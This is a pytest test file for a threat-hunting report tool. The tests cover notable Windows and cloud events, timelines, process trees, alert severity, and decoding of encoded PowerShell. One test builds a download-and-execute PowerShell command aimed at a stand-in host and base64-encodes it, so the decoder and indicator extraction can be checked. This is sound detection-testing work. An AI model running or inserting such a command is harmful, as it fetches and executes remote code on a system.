"""The sides of the report, one by one."""

import base64
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import polars as pl
import pytest

from huntkit.report import encoded, indicators, notable, overview, processes, sections
from huntkit.report.activity import Activity
from huntkit.report.drawing import activity_svg
from huntkit.report.facts import gather
from huntkit.report.layouts import layouts
from huntkit.report.texts import distinct_texts

WHEN = datetime(2026, 3, 3, 9, 12, 31, tzinfo=UTC)
Make = Callable[..., Any]


def windows_rows(*rows: dict[str, Any]) -> pl.DataFrame:
    base = {
        "TimeGenerated": WHEN,
        "Provider": "Microsoft-Windows-Security-Auditing",
        "Channel": "Security",
        "Computer": "dc01.example",
        "EventID": 4720,
        "EventData": '{"TargetUserName":"eve","SubjectUserName":"nils"}',
        "_file": "a.evtx",
        "_record": 1,
    }
    return pl.DataFrame([{**base, **row} for row in rows]).with_columns(
        pl.col("TimeGenerated").dt.cast_time_unit("us")
    )


def test_notable_events_come_from_windows_events_with_who_and_what(evidence: Make) -> None:
    given = evidence({"WindowsEvent": windows_rows({}, {"EventID": 4624, "_record": 2})})
    found = notable.notable(given, layouts(given))
    assert found.select("Kind", "Host", "Account", "Detail").rows() == [
        ("User created", "dc01.example", "nils", "TargetUserName: eve")
    ]


def test_broken_event_data_is_no_obstacle(evidence: Make) -> None:
    rows = windows_rows({"EventData": ""}, {"EventData": "{oops", "_record": 2})
    given = evidence({"WindowsEvent": rows})
    assert notable.notable(given, layouts(given))["Detail"].to_list() == ["", ""]


def test_the_same_event_id_of_another_provider_is_not_notable(evidence: Make) -> None:
    given = evidence({"WindowsEvent": windows_rows({"Provider": "Somebody else"})})
    assert notable.notable(given, layouts(given)).height == 0


def test_a_record_in_two_tables_is_notable_once(evidence: Make, process_rows: Make) -> None:
    device = process_rows({"ActionType": "UserAccountCreated", "_file": "a.evtx"}).with_columns(
        AdditionalFields=pl.lit("{}")
    )
    device = device.with_columns(InitiatingProcessAccountName=pl.lit(""))
    given = evidence({"DeviceEvents": device, "WindowsEvent": windows_rows({})})
    assert notable.notable(given, layouts(given))["Table"].to_list() == ["WindowsEvent"]


def test_a_log_that_was_cleared_is_called_security_only_if_it_was(
    evidence: Make, process_rows: Make
) -> None:
    cleared = {"Provider": "Microsoft-Windows-Eventlog", "EventData": ""}
    windows = windows_rows({**cleared, "EventID": 1102}, {**cleared, "EventID": 104, "_record": 2})
    device = process_rows({"ActionType": "EventLogCleared", "_file": "a.evtx", "_record": 2})
    device = device.with_columns(
        AdditionalFields=pl.lit('{"Channel":"Windows PowerShell"}'),
        InitiatingProcessAccountName=pl.lit(""),
    )
    given = evidence({"DeviceEvents": device, "WindowsEvent": windows})
    assert notable.notable(given, layouts(given)).select("Kind", "_record", "Detail").rows() == [
        ("Security log cleared", 1, ""),
        ("Event log cleared", 2, '{"Channel":"Windows PowerShell"}'),
    ]


def test_what_the_cloud_refused_was_not_changed_and_is_told_once(evidence: Make) -> None:
    tried = [("StopLogging", ""), ("StopLogging", "AccessDenied"), ("ListUsers", "AccessDenied")]
    rows = pl.DataFrame(
        {
            "TimeGenerated": [WHEN] * 3,
            "EventName": [name for name, _ in tried],
            "ErrorCode": [code for _, code in tried],
            "UserIdentityUserName": "eve",
            "SourceIpAddress": "198.51.100.23",
            "RequestParameters": "",
            "_file": "trail.json",
            "_record": [1, 2, 3],
        }
    )
    given = evidence({"AWSCloudTrail": rows})
    found = notable.notable(given, layouts(given))
    assert found.select("Kind", "Tone", "_record").rows() == [
        ("Cloud trail or key changed", "warn", 1),
        ("Cloud trail or key change failed", "warn", 2),
        ("Cloud access denied", "plain", 3),
    ]


def test_hosts_that_differ_in_case_are_one(evidence: Make, process_rows: Make) -> None:
    rows = process_rows(
        {"DeviceName": "WS01"}, {"DeviceName": "ws01", "_record": 2}, {"DeviceName": ""}
    )
    given = evidence({"DeviceProcessEvents": rows})
    assert overview.overview(given, layouts(given)).hosts["Records"].to_list() == [2]


def test_a_short_name_and_its_only_full_name_are_one_host(
    evidence: Make, process_rows: Make
) -> None:
    rows = process_rows(
        {"DeviceName": "WS5"}, {"DeviceName": "ws5.a.example", "_record": 2, "AccountName": "eve"}
    )
    given = evidence({"DeviceProcessEvents": rows})
    found = overview.overview(given, layouts(given))
    assert found.hosts.select("Host", "Records").rows() == [("ws5.a.example", 2)]
    assert found.users.select("User", "Records").rows() == [("anna", 1), ("eve", 1)]


def test_a_record_in_several_tables_counts_once(evidence: Make, process_rows: Make) -> None:
    windows = windows_rows({"_record": 1}, {"_record": 2}).drop("Channel")
    device = process_rows({"DeviceName": "dc01", "_file": "a.evtx", "_record": 1})
    tables = {"WindowsEvent": windows, "DeviceProcessEvents": device, "Event": windows}
    given = evidence(tables)
    found = overview.overview(given, layouts(given))
    assert found.hosts.select("Host", "Records", "Tables").rows() == [("dc01.example", 2, 2)]
    assert found.activity is not None
    assert "Event" not in [name for name, _, _ in found.activity.tables]
    more = {**tables, "Event": windows_rows({"_record": 3})}
    given = evidence(more)
    assert overview.overview(given, layouts(given)).hosts["Records"].to_list() == [3]


def test_times_without_a_year_are_told_with_what_helps(evidence: Make) -> None:
    rows = windows_rows({"_record": 1}, {"_record": 2}, {"_record": 3}).with_columns(
        _time_note=pl.Series(["year unknown", "zone assumed", "year assumed, zone assumed"])
    )
    notes = gather(evidence({"Syslog": rows})).time_notes
    assert "1 record: year unknown (see _time_note, --assume-year)" in notes
    assert "1 record: year assumed, zone assumed (see _time_note, --assume-year)" in notes
    assert "1 record: zone assumed (see _time_note)" in notes


def test_activity_counts_every_row_with_a_time(evidence: Make, process_rows: Make) -> None:
    rows = process_rows(*({"TimeGenerated": WHEN + timedelta(hours=n)} for n in range(50)))
    given = evidence({"DeviceProcessEvents": rows})
    found = overview.overview(given, layouts(given)).activity
    assert found is not None
    [(name, total, bins)] = found.tables
    assert (name, total, sum(bins)) == ("DeviceProcessEvents", 50, 50)
    assert bins[0] == bins[-1] == 1


@pytest.mark.parametrize("year", [1, 1601, 2019, 9999])
def test_a_clock_far_from_all_others_does_not_squeeze_the_picture(
    evidence: Make, process_rows: Make, year: int
) -> None:
    times = [WHEN + timedelta(seconds=72 * n) for n in range(50)]
    odd = datetime(year, 12, 31, 23, 59, 59, 999999, tzinfo=UTC)
    rows = process_rows(*({"TimeGenerated": when} for when in [*times, odd]))
    given = evidence({"DeviceProcessEvents": rows, "Other": rows.tail(1)})
    found = gather(given)
    assert found.activity is not None
    assert found.activity.start <= times[0] < times[-1] <= found.activity.end
    assert found.activity.end - found.activity.start < timedelta(hours=10)
    assert (sum(rows for _, rows, _ in found.activity.tables), found.activity.outside) == (50, 2)
    page = str(sections.draw(found))
    assert "Not drawn: 2 rows are before 2026-03-03" in page


def test_data_sets_years_apart_are_both_drawn(evidence: Make, process_rows: Make) -> None:
    times = [WHEN + timedelta(days=900 * (n > 40), minutes=n) for n in range(50)]
    rows = process_rows(*({"TimeGenerated": when} for when in times))
    given = evidence({"DeviceProcessEvents": rows})
    found = overview.overview(given, layouts(given)).activity
    assert found is not None
    assert (found.tables[0][1], found.outside) == (50, 0)


@pytest.mark.parametrize("start", [datetime.min, datetime.max - timedelta(days=119)])
def test_activity_at_the_ends_of_the_calendar_is_drawn(start: datetime) -> None:
    given = Activity(start.replace(tzinfo=UTC), timedelta(days=1), [("T", 120, [1] * 120)])
    assert str(activity_svg(given)).count('y1="30"') >= 2


def test_an_encoded_command_is_decoded_and_its_indicators_are_found(
    evidence: Make, process_rows: Make
) -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://bad.example.org/x')"
    code = base64.b64encode(script.encode("utf-16-le")).decode()
    command = f"powershell -enc {code}"
    rows = process_rows(
        {"ProcessCommandLine": command}, {"ProcessCommandLine": command, "_record": 2}
    )
    given = evidence({"DeviceProcessEvents": rows})
    problems: list[str] = []
    texts = distinct_texts(given, layouts(given), problems)
    found = encoded.encoded(texts)
    assert found["Layers"].to_list()[0][0]["Decoded"] == script
    assert found["Mentions"].to_list() == [2]
    iocs = indicators.indicators(texts, decoded=found)
    urls = iocs.filter(pl.col("IoCType") == "url")
    assert urls.select("Observable", "Defanged", "_record").rows() == [
        ("http://bad.example.org/x", "hxxp://bad[.]example[.]org/x", 1)
    ]
    assert "(decoded)" in urls["Where"][0]
    assert problems == []


def test_indicators_say_where_and_how_often(evidence: Make, process_rows: Make) -> None:
    rows = process_rows(
        {"ProcessCommandLine": "ping 203.0.113.4", "_record": 7},
        {"ProcessCommandLine": "ping 203.0.113.4", "_record": 3},
        {"ProcessCommandLine": "ping 203.0.113.4 -t", "_record": 9},
    )
    given = evidence({"DeviceProcessEvents": rows})
    [row] = indicators.indicators(distinct_texts(given, layouts(given), [])).to_dicts()
    assert row["Mentions"] == 3
    assert row["Where"] == "DeviceProcessEvents.ProcessCommandLine 3"
    assert (row["_file"], row["_record"]) == ("a.json", 3)


def test_raw_rows_that_other_tables_hold_are_not_counted_again(
    evidence: Make, process_rows: Make
) -> None:
    given = evidence(
        {
            "DeviceProcessEvents": process_rows({"ProcessCommandLine": "ping 203.0.113.4"}),
            "WindowsEvent": windows_rows(
                {"EventData": '{"x":"203.0.113.4"}', "_file": "a.json", "_record": 1},
                {"EventData": '{"x":"203.0.113.5"}', "_file": "a.json", "_record": 2},
            ),
        }
    )
    found = indicators.indicators(distinct_texts(given, layouts(given), []))
    assert dict(found.select("Observable", "Table").rows()) == {
        "203.0.113.4": "DeviceProcessEvents",
        "203.0.113.5": "WindowsEvent",
    }


def tree_rows(process_rows: Make) -> pl.DataFrame:
    common = [
        {
            "ProcessId": 100 + n,
            "ProcessUniqueId": f"s{n}",
            "FolderPath": r"C:\Windows\svchost.exe",
            "FileName": "svchost.exe",
            "InitiatingProcessId": 4,
            "InitiatingProcessUniqueId": "services",
            "InitiatingProcessFolderPath": r"C:\Windows\services.exe",
            "InitiatingProcessFileName": "services.exe",
            "TimeGenerated": WHEN + timedelta(seconds=n),
            "_record": n,
        }
        for n in range(60)
    ]
    rare = {
        **common[0],
        "ProcessId": 999,
        "ProcessUniqueId": "evil",
        "FolderPath": r"C:\Temp\evil.exe",
        "FileName": "evil.exe",
        "ProcessCommandLine": "evil.exe " + "x" * 900,
        "_record": 999,
    }
    return process_rows(*common, rare)


def test_the_rarest_branch_comes_first_and_busy_parents_are_only_its_soil(
    evidence: Make, process_rows: Make
) -> None:
    given = evidence({"DeviceProcessEvents": tree_rows(process_rows)})
    tree = processes.processes(given, layouts(given), [])
    first, *rest = processes.branches(tree)
    assert first.title == "services.exe → evil.exe"
    [node] = first.nodes
    assert node.rare
    assert node.more == "509 more characters"
    assert all("evil" not in branch.title for branch in rest)


def test_processes_can_be_narrowed_by_host_and_time(evidence: Make, process_rows: Make) -> None:
    given = evidence({"DeviceProcessEvents": tree_rows(process_rows)})
    known = layouts(given)
    assert processes.processes(given, known, [], hosts=["nobody's"]).height == 0
    end = WHEN + timedelta(seconds=10)
    few = processes.processes(given, known, [], hosts=["WS01.example"], start=WHEN, end=end)
    assert few.filter(~pl.col("Inferred")).height == 11


def service(event: int, record: int, seconds: int, name: str = "Evil") -> dict[str, Any]:
    if event == 7045:
        provider, data = "Service Control Manager", f'{{"ServiceName":"{name}","ImagePath":"x"}}'
    else:
        provider = "Microsoft-Windows-Security-Auditing"
        data = f'{{"ServiceName":"{name}","ServiceFileName":"x","SubjectUserName":"nils"}}'
    return {
        "EventID": event,
        "Provider": provider,
        "EventData": data,
        "_record": record,
        "TimeGenerated": WHEN + timedelta(seconds=seconds),
    }


def test_a_service_that_two_logs_tell_of_is_one_event(evidence: Make) -> None:
    rows = windows_rows(
        service(4697, 1, 0),
        service(7045, 2, 1),
        service(7045, 3, 2),  # a second one: nothing else tells of it
        service(7045, 4, 600),
        service(7045, 5, 0, "Other"),
    )
    given = evidence({"WindowsEvent": rows})
    found = notable.notable(given, layouts(given))
    assert sorted(found["_record"].to_list()) == [1, 3, 4, 5]
    [first] = found.filter(_record=1).to_dicts()
    assert first["Account"] == "nils"
    assert first["Detail"].endswith("also told by 7045, record 2")


def test_equal_neighbours_are_one_row_and_no_event_is_lost(evidence: Make) -> None:
    rows = windows_rows(
        *({"_record": n, "TimeGenerated": WHEN + timedelta(seconds=n)} for n in range(5)),
        {"_record": 9, "Computer": "b.example", "TimeGenerated": WHEN + timedelta(seconds=9)},
    )
    section = sections.draw(gather(evidence({"WindowsEvent": rows})))[0]
    first, second = section.blocks[0]["sheet"].rows
    assert first[1].repeats == "5 times, until 09:12:35"
    assert second[1].repeats == ""
    assert section.count == "6"


def test_a_place_is_the_name_of_a_file_and_its_whole_path(evidence: Make) -> None:
    rows = windows_rows(
        {"_file": "case/a/Security.evtx", "EventID": 4726},
        {"_file": "case/b/Security.evtx", "_record": 2},
        {"_file": "case/only.evtx", "_record": 3, "EventID": 4724},
    )
    section = sections.draw(gather(evidence({"WindowsEvent": rows})))[0]
    places = [row[-1] for row in section.blocks[0]["sheet"].rows]
    assert {place.text for place in places} == {
        "case/a/Security.evtx, 1",
        "case/b/Security.evtx, 2",
        "only.evtx, 3",
    }
    assert "case/only.evtx" in {place.title for place in places}


def test_a_detail_leads_to_what_it_decodes_to(evidence: Make) -> None:
    code = base64.b64encode("IEX (something long enough to see)".encode("utf-16-le")).decode()
    data = f'{{"ServiceName":"S","ImagePath":"powershell -enc {code}"}}'
    rows = windows_rows({**service(7045, 1, 0), "EventData": data}, {"_record": 2})
    drawn = sections.draw(gather(evidence({"WindowsEvent": rows})))
    links = [row[4].link for row in drawn[0].blocks[0]["sheet"].rows]
    [item] = next(each for each in drawn if each.id == "encoded").blocks[0]["pieces"]
    assert links == [item["id"], ""] == ["decoded-1", ""]


def test_indicators_are_one_number_everywhere(evidence: Make, process_rows: Make) -> None:
    rows = process_rows({"ProcessCommandLine": "ping 203.0.113.4 10.0.0.1"})
    facts = gather(evidence({"DeviceProcessEvents": rows}))
    tile = next(tile for tile in sections.tiles(facts) if tile[0] == "Indicators")
    section = next(each for each in sections.draw(facts) if each.id == "indicators")
    assert tile[1] == section.count == f"{facts.indicators.height}"
    assert "1 of them inside (private" in section.lead


@pytest.mark.parametrize(
    ("span", "labels"),
    [
        (timedelta(hours=5), ["10:00", "11:00"]),
        (timedelta(seconds=12), ["09:12:32", "09:12:34"]),
        (timedelta(days=40), ["2026-03-04", "2026-03-11"]),
        (timedelta(days=9_000), ["2026-03-04"]),
    ],
)
def test_ticks_stand_at_round_times(span: timedelta, labels: list[str]) -> None:
    given = Activity(WHEN, span / 120, [("T", 1, [1] * 120)])
    picture = str(activity_svg(given))
    assert [label for label in labels if f">{label}<" not in picture] == []
    assert 1 <= picture.count('y1="30"') <= 10


def test_origins_are_folders_where_files_are_many(evidence: Make) -> None:
    facts = gather(evidence({"WindowsEvent": windows_rows({})}))
    names = ["a/x/1.evtx", "a/x/2.evtx", "a/3.json", "b/l.zip!m.json", "b/n.log", "b/o.log"]
    facts.files = pl.DataFrame({"path": names})
    assert sections.origins(facts) == ["a/", "b/"]
    facts.files = pl.DataFrame({"path": ["a/l.zip!m.json", "a/l.zip!n.json"]})
    assert sections.origins(facts) == ["a/l.zip"]


def alerts(*rows: tuple[str, str]) -> pl.DataFrame:
    """Alerts by name and severity, a minute apart."""
    return pl.DataFrame(
        {
            "TimeGenerated": [WHEN + timedelta(minutes=n) for n in range(len(rows))],
            "AlertName": [name for name, _ in rows],
            "AlertSeverity": [severity for _, severity in rows],
            "Description": [f"number {n}\r\nof many" for n in range(len(rows))],
            "CompromisedEntity": ["srv1"] * len(rows),
            "_file": ["alerts.csv"] * len(rows),
            "_record": list(range(1, len(rows) + 1)),
        }
    ).with_columns(pl.col("TimeGenerated").dt.cast_time_unit("us"))


@pytest.mark.parametrize(
    ("name", "severity", "tone"),
    [
        ("Mimikatz", "High", "alarm"),
        ("Mimikatz", "critical", "alarm"),
        ("Mimikatz", "a word that nobody knows", "alarm"),
        ("Mimikatz", "Medium", "warn"),
        ("Mimikatz", "", "warn"),
        ("Mimikatz", "Low", "plain"),
        ("Mimikatz", "Informational", "plain"),
        ("Azure Security Center test alert (not a threat)", "High", "plain"),
    ],
)
def test_an_alert_is_as_loud_as_its_severity(
    evidence: Make, name: str, severity: str, tone: str
) -> None:
    given = evidence({"SecurityAlert": alerts((name, severity))})
    found = notable.notable(given, layouts(given))
    assert found.select("Kind", "Name", "Tone").rows() == [("Alert", name, tone)]


def test_alerts_of_one_name_are_one_row_with_first_and_last(evidence: Make) -> None:
    given = evidence({"SecurityAlert": alerts(("a", "High"), ("b", "Low"), ("a", "High"))})
    block = sections.draw(gather(given))[0].blocks[0]
    assert [heading for heading, _ in block["sheet"].columns] == [
        "Time", "What", "Host", "Detail", "File, record",
    ]  # fmt: skip
    first, second = block["sheet"].rows
    assert [cell.text for cell in first] == [
        "2026-03-03 09:12:31.000", "a", "srv1", "High; number 0↵ of many", "alerts.csv, 1",
    ]  # fmt: skip
    told = "Alert; 2 times, until 09:14:31; the detail is that of the first"
    assert (first[1].repeats, first[1].tone) == (told, "alarm")
    assert (second[1].text, second[1].repeats, second[1].tone) == ("b", "Alert", "plain")


def test_of_a_long_list_the_alarming_rows_are_seen_first(evidence: Make) -> None:
    rows = [(f"low {n}", "Low") for n in range(20)] + [(f"high {n}", "High") for n in range(8)]
    given = evidence({"SecurityAlert": alerts(*rows)})
    block = sections.draw(gather(given))[0].blocks[0]
    assert len(block["sheet"].rows) == 28
    assert sorted(block["folded"]) == list(range(12, 20))
    few = evidence({"SecurityAlert": alerts(*rows[:25])})
    assert sections.draw(gather(few))[0].blocks[0]["folded"] == []


def test_the_time_of_a_table_is_the_one_that_all_its_columns_tell(evidence: Make) -> None:
    rows = pl.DataFrame(
        {"Event Name": ["GetObject"], "Alarm DateTime": [WHEN], "Event DateTime": [WHEN],
         "Source IP": ["203.0.113.9"], "_file": ["alerts.csv"], "_record": [1]}
    )  # fmt: skip
    given = evidence({"Alerts": rows})
    assert [each.time for each in layouts(given)] == ["Event DateTime"]
    texts = distinct_texts(given, layouts(given), [])
    assert indicators.indicators(texts)["First"].to_list() == [WHEN]
